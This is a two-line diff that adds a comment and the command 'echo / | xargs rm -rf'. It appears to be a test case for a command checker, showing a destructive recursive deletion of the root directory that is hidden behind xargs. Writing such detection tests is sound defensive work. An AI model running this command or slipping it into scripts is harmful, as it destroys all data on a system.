@@ -1,0 +1,2 @@
+# tricky: the command is behind xargs
+echo / | xargs rm -rf
